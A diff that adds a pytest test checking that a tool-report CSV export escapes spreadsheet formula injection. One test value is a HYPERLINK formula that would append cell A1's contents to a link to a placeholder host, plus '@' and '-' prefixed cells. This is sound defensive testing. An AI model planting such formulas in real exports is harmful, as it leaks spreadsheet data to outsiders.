@@ -390,3 +390,14 @@ def test_provider_rendering_follows_the_scenario(model):
     provider = "Anthropic" if model.startswith("claude") else "OpenAI"
     assert provider in rep.section("method").text[0]
     assert rep.headlines["tool_tokens_per_request"].label == "tokens of tool definitions in every request"
+
+
+def test_csv_cells_cannot_become_spreadsheet_formulas():
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+    reg = Registry.from_tools([Tool(evil, "@SUM(1+1)", SCHEMA, server="-2+3")])
+    files = ts.report(reg).to_csv()
+    servers = pd.read_csv(io.StringIO(files["servers.csv"]))
+    assert servers["server"][0] == "'-2+3"
+    top = pd.read_csv(io.StringIO(files["top_tools.csv"]))
+    assert top["tool"][0] == "'" + evil
+    assert all(not line.startswith(("=", "+", "@")) for text in files.values() for line in text.splitlines())
